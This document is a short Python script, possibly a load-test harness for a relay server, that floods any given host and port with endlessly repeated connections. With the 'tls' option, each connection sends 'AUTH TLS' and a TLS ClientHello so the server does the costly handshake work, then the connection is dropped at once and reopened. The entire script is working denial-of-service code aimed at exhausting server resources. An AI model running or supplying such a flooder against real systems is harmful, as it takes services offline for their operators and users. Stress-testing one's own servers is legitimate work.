"""
Attackers without end, until it is killed: each connects, is greeted, and comes again, as often as it is let. Prints
`flooding` when all have begun.

    strangers-connections.py HOST PORT COUNT [tls]

With `tls` it says AUTH TLS and the hello of a handshake, and comes again at the first byte of the answer: the relay has
signed by then, and this side has done nothing.
"""
import errno
import selectors
import socket
import ssl
import struct
import sys

host, port, count, *words = sys.argv[1:]
selector = selectors.DefaultSelector()
at_once = struct.pack('ii', 1, 0)


def hello():
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    outgoing = ssl.MemoryBIO()
    try:
        context.wrap_bio(ssl.MemoryBIO(), outgoing).do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


says = [b'AUTH TLS\r\n', hello()] if 'tls' in words else []


def begin():
    connection = socket.socket()
    connection.setblocking(False)
    connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, at_once)
    error = connection.connect_ex((host, int(port)))
    if error not in (0, errno.EINPROGRESS):
        raise OSError(error, 'connect')
    selector.register(connection, selectors.EVENT_READ, iter(says))


for _ in range(int(count)):
    begin()
print('flooding', flush=True)
while True:
    for key, _ in selector.select():
        try:
            line = next(key.data, None) if key.fileobj.recv(65_536) else None
            if line is not None:
                key.fileobj.send(line)
                continue
        except OSError:
            pass
        selector.unregister(key.fileobj)
        key.fileobj.close()
        begin()
